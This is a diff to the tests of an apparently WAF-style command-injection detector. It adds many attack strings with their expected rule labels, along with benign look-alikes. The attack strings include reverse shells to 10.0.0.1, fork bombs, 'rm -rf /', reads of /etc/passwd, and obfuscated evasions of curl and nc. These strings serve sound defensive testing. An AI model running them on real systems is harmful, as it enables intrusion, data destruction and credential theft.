@@ -73,6 +73,74 @@ describe("cmdiDetector: attacks", () => {
     ["for /f %a in ('dir /b') do echo %a", "cmdi-windows"],
     ['IF "%var%"=="" (SET var=1)', "cmdi-windows"],
     // Shellshock
+    // a value that is a command ended by a separator, tools no prose names, versions, bin paths
+    ["id;", "cmdi-command-line"],
+    ["whoami;0'0'", "cmdi-command-line"],
+    ["visudo\n", "cmdi-command-line"],
+    ["cd /;cd etc;column passwd", "cmdi-command-line"],
+    ["ansible-doc plugin ping", "cmdi-command-line"], // a tool family's member
+    ["x; ansible-playbook --check site.yml", "cmdi-separator-command"],
+    ["time; cscli alerts list", "cmdi-separator-command"],
+    ["echo | gcc7.4", "cmdi-separator-command"], // a version glued to the name
+    ["; python3.10 -c 'print(1)'", "cmdi-separator-command"],
+    ["bin/ansible", "cmdi-binary-path"], // any program in a binary directory
+    ["/usr/local/bin/foo-tool", "cmdi-binary-path"],
+    ["x&bcdboot/r file.txt", "cmdi-windows"], // a Windows tool glued to its switch
+    ["env --version", "cmdi-command-line"],
+    // shell expansions
+    ["$[2+2]", "cmdi-expansion"],
+    ["$[]", "cmdi-expansion"],
+    ["$((7*7))", "cmdi-expansion"],
+    ["${x#{}}", "cmdi-expansion"],
+    ["${PATH:-/bin}", "cmdi-expansion"],
+    ["${!ref}", "cmdi-expansion"],
+    ["~+", "cmdi-expansion"],
+    ["~-1", "cmdi-expansion"],
+    ["!-1!-2", "cmdi-expansion"],
+    [">(tee log)", "cmdi-substitution"],
+    ["`id`", "cmdi-substitution"], // the whole value: a blind-injection probe
+    ['"`true`"', "cmdi-substitution"],
+    ["{cat,/etc/passwd}", "cmdi-brace-expansion"],
+    ["{,ifconfig}", "cmdi-brace-expansion"],
+    ["c{a,oun}t /etc/hosts", "cmdi-brace-expansion"],
+    ["{l,-lh}s", "cmdi-brace-expansion"],
+    ["{,$'whoami',}", "cmdi-brace-expansion"],
+    ["{,/?s?/?i?/c?t,/e??/p??s??,}", "cmdi-brace-expansion"],
+    // evasions by variables, empty substitutions, aliases
+    ["a=nc&&$a -nlvp 555", "cmdi-variable-command"],
+    ["c1=c;c2=at;$c1$c2 /etc/passwd", "cmdi-variable-command"],
+    ["cmd=garb=adduse[r];$garb pizza", "cmdi-variable-command"],
+    ['$SHELL -c "echo hi"', "cmdi-variable-command"],
+    ['${SHELL} -c "echo hi"', "cmdi-variable-command"],
+    ["pi``ng 127.0.0.1", "cmdi-command-line"],
+    ["pi$()ng 127.0.0.1", "cmdi-command-line"],
+    ["cu$@rl google.com", "cmdi-evasion"],
+    ["\\ls", "cmdi-evasion"],
+    ["alias a=b", "cmdi-alias"],
+    ["alias +m x='curl'&x google.com", "cmdi-alias"],
+    ["f(){ f|f& };f", "cmdi-fork-bomb"],
+    [":(){ :|:& };:", "cmdi-fork-bomb"],
+    ["d=/dev&&(sh)0>$d/tcp/10.0.0.1/777", "cmdi-reverse-shell"],
+    // cmd.exe conditions
+    ["if (1) equ (1) echo hey", "cmdi-windows"],
+    ["IF 2 GEQ 15 echo bigger", "cmdi-windows"],
+    ["if not (2 equ 2) echo hey", "cmdi-windows"],
+    ["IF [%1] EQU [] ECHO Value Missing", "cmdi-windows"],
+    ["if/i a==b foo", "cmdi-windows"],
+    // redirections, Windows subcommands and programs, literal line breaks, substring expansion
+    [">/tmp/curl", "cmdi-redirection"],
+    ["x; ls 2>&1", "cmdi-redirection"],
+    ["ping -c 1 x >/dev/null", "cmdi-redirection"],
+    ["127.0.0.1 && net user", "cmdi-windows"],
+    ["x | reg query HKLM\\Software", "cmdi-windows"],
+    ["x & start calc.exe", "cmdi-windows"],
+    ["x; Get-Content C:\\secret.txt", "cmdi-windows"],
+    ["1;Start-Sleep -s 5", "cmdi-windows"],
+    ["x\\nrm -rf /", "cmdi-separator-command"],
+    ["x;${PATH:0:1}etc${PATH:0:1}passwd", "cmdi-expansion"],
+    // mail protocol commands after a line break
+    ["x\r\nMAIL FROM:<a@b.example>", "cmdi-mail-command"],
+    ["x%0d%0aRCPT TO:<postmaster>", "cmdi-mail-command"],
     ["() { :; }; /bin/bash -c id", "cmdi-shellshock"],
     ["() { _; } >_[$($())] { id; }", "cmdi-shellshock"],
     ['{ "() { :; }":"foo" }', "cmdi-shellshock"],
@@ -82,12 +150,25 @@ describe("cmdiDetector: attacks", () => {
   });
 
   it("weaker forms wait for PL2", () => {
-    expect(rulesAt("`id`")).toEqual([]);
-    expect(rulesAt("`id`", 2)).toContain("cmdi-command-word");
+    expect(rulesAt("run `id` here")).toEqual([]);
+    expect(rulesAt("run `id` here", 2)).toContain("cmdi-command-word");
     expect(rulesAt("Salt; cat food")).toEqual([]);
     expect(rulesAt("a && echo vulnerable", 2)).toContain("cmdi-command-word");
-    expect(rulesAt("x; ansible-playbook --check site.yml")).toEqual([]);
-    expect(rulesAt("x; ansible-playbook --check site.yml", 2)).toContain("cmdi-option-command");
+    expect(rulesAt("x; mytool --check site.yml")).toEqual([]);
+    expect(rulesAt("x; mytool --check site.yml", 2)).toContain("cmdi-option-command");
+    expect(rulesAt("perf --version")).toEqual([]);
+    expect(rulesAt("perf --version", 2)).toContain("cmdi-option-command");
+    expect(rulesAt("cscli alerts list")).toEqual([]);
+    expect(rulesAt("cscli alerts list", 2)).toContain("cmdi-command-word");
+    expect(rulesAt("x ;top something", 2)).toContain("cmdi-command-word");
+    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh")).toEqual([]);
+    expect(rulesAt(";\\n.shell nc 10.0.0.1 4444 -e sh", 2)).toContain("cmdi-sqlite-dot");
+    expect(rulesAt("1;.sh whoami", 2)).toContain("cmdi-sqlite-dot");
+    expect(rulesAt("\r\na001 EXAMINE INBOX")).toEqual([]);
+    expect(rulesAt("\r\na001 EXAMINE INBOX", 2)).toContain("cmdi-mail-verb");
+    expect(rulesAt("x\r\nRETR 123", 2)).toContain("cmdi-mail-verb");
+    expect(rulesAt("~0", 2)).toContain("cmdi-shell-syntax");
+    expect(rulesAt("!!", 2)).toContain("cmdi-shell-syntax");
   });
 
   it("reports rule, tags, level, severity and target", () => {
@@ -135,6 +216,44 @@ describe("cmdiDetector: benign look-alikes at PL1", () => {
     "for each item in (list) do this",
     "C++ & C#",
     "Sales; Marketing -Q3 plan",
+    "curl and divergence",
+    "wget download windows",
+    "if (x == y) { return; }",
+    "if+foo==",
+    "If the subject parameter is greater than 0, then return a list",
+    "*.{js,ts}",
+    '{"a":1,"b":2}',
+    "{cat,dog}",
+    "$[0].name", // JSONPath
+    "${user.name}", // a template literal
+    "`${a}/${b}`",
+    "Hello ${name}, you owe ${amount}",
+    "~/Documents",
+    "approx ~5 minutes",
+    "Wow!!!",
+    "cabin/door",
+    "/blog/geekery/ssh-honeypot-is-alive.html",
+    "Go to store.\nAt the store, shop.",
+    "data://text/plain;base64,SSBsb3ZlIFBIUAo=",
+    "Dear team,\r\nplease list 3 options\r\nthanks",
+    "mail from: John",
+    "the `id` column and the `name` column",
+    "f(x) { return x*2 }",
+    "US$5 cat food",
+    "alias: Bob",
+    "$x = 1; $y = 2;",
+    "a > b",
+    "bin/readme.md",
+    "Set-up; get-together",
+    "/metrics/tcp/server1/443",
+    "hostname;ip;port",
+    "Time\n",
+    "x -> /dev/null",
+    "<b>bold</b> > plain",
+    "NC;SC;GA",
+    "Java; net income",
+    "hello\\nworld",
+    "c:\\new\\folder",
   ];
   it.each(benign)("%s", (value) => {
     expect(rulesAt(value)).toEqual([]);
@@ -173,6 +292,18 @@ describe("cmdiDetector: robustness", () => {
       "$u",
       ";",
       "a",
+      "{",
+      "{a,",
+      "${",
+      "$((",
+      "$[",
+      "!-1",
+      "alias ",
+      "f(){ ",
+      "\r\nmail ",
+      "a=1;$",
+      "`",
+      "c$@",
     ].map((u) => u.repeat(Math.ceil(65536 / u.length)).slice(0, 65536));
     for (const v of inputs) cmdiDetector.inspect({ name: "ARGS:x", value: v }); // warm-up
     for (const v of inputs) {
